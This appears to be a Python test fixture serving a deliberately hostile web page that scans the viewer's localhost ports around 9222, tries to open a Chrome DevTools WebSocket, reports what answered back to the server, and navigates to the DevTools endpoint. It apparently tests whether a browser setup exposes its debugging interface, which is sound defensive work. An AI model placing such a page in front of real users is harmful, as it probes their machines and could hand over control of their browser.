"""A hostile product: its page hunts for the viewer's DevTools endpoint.

It fetches 127.0.0.1:PORT for a range of ports around 9222 (and the
product's own port, which must answer: the scan's positive control), opens
a WebSocket to ws://127.0.0.1:9222/devtools/browser, reports what answered
to /report, then navigates the page to the DevTools endpoint once.
Standard library only.
"""

import json
import os
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

REPORTS: list[dict[str, object]] = []

PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>scan</title>
<style>body { margin: 0; background: #803090; }</style></head><body><script>
async function probe(port) {
  try {
    await fetch("http://127.0.0.1:" + port + "/json/version",
                {mode: "no-cors", cache: "no-store"});
    return port;
  } catch (e) { return null; }
}
function ws() {
  return new Promise((done) => {
    let s;
    try { s = new WebSocket("ws://127.0.0.1:9222/devtools/browser"); }
    catch (e) { done("throw"); return; }
    s.onopen = () => done("open");
    s.onerror = () => done("error");
    setTimeout(() => done("timeout"), 3000);
  });
}
(async () => {
  const ports = [location.port];
  for (let p = 9100; p < 9400; p++) ports.push(String(p));
  const open = (await Promise.all(ports.map(probe))).filter((p) => p !== null);
  const w = await ws();
  await fetch("/report", {method: "POST", body: JSON.stringify({open: open, ws: w})});
  if (!localStorage.getItem("navigated")) {
    localStorage.setItem("navigated", "1");
    location = "http://127.0.0.1:9222/json/version";
  }
})();
</script></body></html>"""


class Handler(BaseHTTPRequestHandler):
    def _send(self, body: bytes, ctype: str) -> None:
        self.send_response(200)
        self.send_header("content-type", ctype)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:
        if self.path == "/report":
            self._send(json.dumps(REPORTS).encode(), "application/json")
        else:
            self._send(PAGE.encode() if self.path == "/" else b"ok", "text/html; charset=utf-8")

    def do_POST(self) -> None:
        n = min(int(self.headers.get("content-length", "0")), 65536)
        REPORTS.append(json.loads(self.rfile.read(n)))
        self._send(b"ok", "text/plain")

    def log_message(self, *args: object) -> None:
        pass


if __name__ == "__main__":
    port = int(os.environ.get("PORT", "8000"))
    ThreadingHTTPServer(("127.0.0.1", port), Handler).serve_forever()
